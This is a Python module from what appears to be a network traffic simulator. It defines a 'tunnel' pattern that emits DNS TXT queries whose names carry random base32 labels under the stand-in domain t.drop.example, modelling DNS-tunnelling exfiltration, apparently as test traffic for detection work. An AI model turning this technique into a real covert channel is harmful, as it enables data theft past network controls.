"""Carry data out in names, past every rule that lets a thing ask for them."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from dataclasses import dataclass
from typing import ClassVar

from thingstead.simulator.lab import frame
from thingstead.simulator.lab.pattern.pattern import Pattern, Setting
from thingstead.simulator.lab.script import Act, Datagram

__all__ = ["Bad"]

_TXT = 16


@dataclass(frozen=True, slots=True)
class Bad(Pattern):
    """Long labels of base32 before a name whose server reads them.

    Attributes:
        below: that name.
        queries: how many.
        every: seconds between two.
    """

    name: ClassVar[str] = "tunnel"
    below: str = "t.drop.example"
    queries: int = 200
    every: float = 0.2

    def acts(self, setting: Setting, /) -> Iterator[tuple[float, Act]]:
        """Three labels of 48 letters each time."""
        for number in range(self.queries):
            labels = [base64.b32encode(setting.chance.randbytes(30)).decode().lower() for _ in range(3)]
            name = ".".join((*labels, self.below))
            query = frame.dns_query(name, number=setting.chance.randrange(1 << 16), kind=_TXT)
            to = setting.cast.resolver, 53
            yield number * self.every, Datagram((setting.one.ipv4, next(setting.ports)), to, query)
